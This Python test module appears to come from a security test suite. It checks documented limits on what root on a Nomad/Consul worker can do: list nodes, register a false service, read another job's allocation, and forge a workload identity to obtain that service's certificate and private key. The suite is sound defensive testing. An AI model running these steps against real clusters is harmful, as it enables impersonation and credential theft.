"""What root on a worker can do, as docs/security.md states; tests notice when that changes."""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.stack.attacks.attack import Outcome
from tests.stack.attacks.server_apis import Request, send
from tests.stack.attacks.server_rpc import NOMAD, call, outcome_of
from tests.stack.attacks.target import Target
from tests.stack.attacks.tokens import login

TASK_IDENTITY = 0
"""Nomad's ``WorkloadType`` of a task, as opposed to a service."""


@dataclass(frozen=True)
class Limit:
    """An action that the stack does not refuse."""

    name: str
    run: Callable[[Target], Outcome]


def _call(target: Target, method: str, args: dict[str, Any]) -> Any:
    request = {
        "Region": "global",
        "Namespace": "default",
        "AuthToken": target.tokens["nomad client secret"],
        **args,
    }
    credentials = target.certificates["worker"]
    return call(target, target.worker_position, NOMAD, credentials, method, request)


def _read_job_definition(target: Target) -> Outcome:
    """Read an allocation of another worker by its id, which Consul's catalog contains."""
    return outcome_of(
        lambda: _call(target, "Alloc.GetAlloc", {"AllocID": "{backserve_allocation}"}),
        b"BACKSERVE_GREETING",
    )


def _log_in_as_backserve(target: Target) -> Outcome:
    """Nomad signs the identity of any allocation for any client, and Consul accepts it."""
    identity = {
        "AllocID": "{backserve_allocation}",
        "WorkloadIdentifier": "backserve",
        "IdentityName": "consul_default",
        "WorkloadType": TASK_IDENTITY,
    }
    signed = _call(target, "Alloc.SignIdentities", {"Identities": [identity]})
    jwt = signed[b"SignedIdentities"][0][b"JWT"].decode()
    response = login(target, jwt)
    assert response.status == 200, response.detail
    token: str = response.json["SecretID"]
    try:
        return send(
            target,
            target.consul_without["backserve"],
            Request("", "GET", "/v1/agent/connect/ca/leaf/backserve", "PrivateKeyPEM"),
            token,
        )
    finally:
        target.worker_consul.request("POST", "/v1/acl/logout", token)


def _register_false_backserve(target: Target) -> Outcome:
    """Register with the Nomad agent's token; frontserve rejects an instance without a certificate.

    The instance is critical, so that DNS never returns it.
    """
    api, token = target.worker_consul, target.tokens["nomad agent"]
    body = {
        "Name": "backserve",
        "ID": "false-backserve",
        "Address": "192.0.2.1",
        "Port": 1,
        "Check": {"TTL": "1h", "Status": "critical"},
    }
    outcome = send(target, api, Request("", "PUT", "/v1/agent/service/register", "", body), token)
    removed = api.request("PUT", "/v1/agent/service/deregister/false-backserve", token)
    assert removed.status == 200, removed.detail
    return outcome


def _list_nodes(target: Target) -> Outcome:
    """List the nodes with the DNS token, which needs this right."""
    request = Request("", "GET", "/v1/catalog/nodes", "{prime_name}")
    return send(target, target.worker_consul, request, target.tokens["dns"])


LIMITS = [
    Limit("Root on a worker lists the names and addresses of all nodes and services", _list_nodes),
    Limit(
        "Root on a worker registers a false backserve with its Nomad agent's token",
        _register_false_backserve,
    ),
    Limit(
        "Root on a worker reads the definition of a job that runs elsewhere", _read_job_definition
    ),
    Limit(
        "Root on a worker logs in to Consul as a workload that runs elsewhere"
        " and gets its certificate",
        _log_in_as_backserve,
    ),
]
